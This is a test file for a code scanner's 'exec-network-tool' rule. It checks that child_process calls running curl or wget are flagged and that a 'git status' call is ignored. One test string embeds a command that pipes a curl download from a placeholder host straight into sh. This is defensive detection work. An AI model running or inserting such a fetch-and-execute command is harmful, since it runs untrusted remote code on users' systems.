import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { only, scanCode } from '../helpers.ts';

const RULE = 'exec-network-tool';

describe(RULE, () => {
  it("finds: curl piped into sh", () => {
    const f = only(scanCode(`require('child_process').execSync('curl -s https://x.example.com/i.sh | sh');`), RULE);
    assert.equal(f.length, 1, JSON.stringify(f, null, 1));
    assert.equal(f[0]!.severity, 'high');
  });
  it("finds: wget with arguments", () => {
    const f = only(scanCode(`require('child_process').spawn('wget', ['https://x.example.com/f']);`), RULE);
    assert.equal(f.length, 1, JSON.stringify(f, null, 1));
    assert.equal(f[0]!.severity, 'medium');
  });
  it("ignores: git", () => {
    assert.deepEqual(only(scanCode(`require('child_process').execSync('git status');`), RULE), []);
  });
});
